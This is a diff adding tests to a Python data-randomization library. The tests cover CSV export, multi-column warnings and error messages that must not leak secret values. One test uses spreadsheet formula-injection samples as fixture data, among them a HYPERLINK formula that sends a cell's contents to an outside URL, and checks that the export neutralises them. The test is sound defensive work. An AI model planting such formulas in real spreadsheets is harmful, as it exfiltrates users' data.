@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import pickle
 import xml.etree.ElementTree as ET
@@ -20,7 +21,7 @@ import sfumato as sf
 from sfumato import channels as c
 from sfumato.cli import console
 from sfumato.columns import examine
-from sfumato.errors import SfumatoError, show_values
+from sfumato.errors import DisclosureWarning, SfumatoError, show_values
 from sfumato.learn.bayesnet import BayesianNetwork
 from sfumato.printable import printable_lines
 
@@ -233,3 +234,37 @@ def test_a_value_that_a_spark_worker_refuses_is_one_line(spark_session) -> None:
     with pytest.raises(SfumatoError, match="^column 'sex': 1 row holds a value that is not in its domain") as caught:
         sf.randomize(frame, scheme, id="id")
     assert "Schmidt" not in str(caught.value)
+
+
+def test_a_spreadsheet_computes_nothing_that_others_wrote(tmp_path) -> None:
+    evil = ('=HYPERLINK("http://x/"&A1)', "+1+1", "-2+3", "@SUM(A1)", " =1", "-5", "a=b")
+    schema = sf.Schema({"=name": sf.Categorical(evil), "-n": sf.Categorical((-1, 2))})
+    rows = {"=name": evil, "-n": [-1, 2] * 3 + [2], "id": [f"={i}" for i in range(7)]}
+    with pytest.warns(DisclosureWarning, match="ids in 'id'"):
+        release = sf.randomize(rows, sf.Scheme.identity(schema), id="id", clear_ids=True)
+    release.save(tmp_path / "r.parquet")
+    assert run(f"export {tmp_path}/r.parquet {tmp_path}/words.csv").code == 0
+    with (tmp_path / "words.csv").open(newline="") as file:
+        names, *found = csv.reader(file)
+    assert names == ["'=name", "'-n", "id"]
+    assert {row[0] for row in found} == {*(f"'{text}" for text in evil[:5]), "-5", "a=b"}
+    assert {row[1] for row in found} == {"-1", "2"} and all(row[2].startswith("'=") for row in found)
+
+
+def test_warnings_of_several_columns_are_all_shown(tmp_path) -> None:
+    schema = sf.Schema({name: sf.Numeric(0, 10, bins=2, clip=True) for name in ("q1", "q2")})
+    (tmp_path / "s.json").write_text(sf.Scheme.for_gamma(schema, 3).to_json())
+    (tmp_path / "t.csv").write_text("q1,q2\n99,99\n1,1\n")
+    said = run(f"randomize {tmp_path}/t.csv {tmp_path}/r.parquet --scheme {tmp_path}/s.json").error
+    assert "column 'q1': 1 value" in said and "column 'q2': 1 value" in said
+
+
+def test_an_unforeseen_failure_names_no_value(tmp_path, monkeypatch) -> None:
+    def fail(*_, **__):
+        raise KeyError(SECRET)
+
+    monkeypatch.setattr("sfumato.cli.inspect._describe", fail)
+    (tmp_path / "s.json").write_text(sf.Scheme.for_gamma(SCHEMA, 3).to_json())
+    quiet, loud = run(f"inspect {tmp_path}/s.json"), run(f"inspect {tmp_path}/s.json --show-values")
+    assert quiet.code == loud.code == 70 and "KeyError" in quiet.error
+    assert SECRET not in quiet.error and SECRET in loud.error
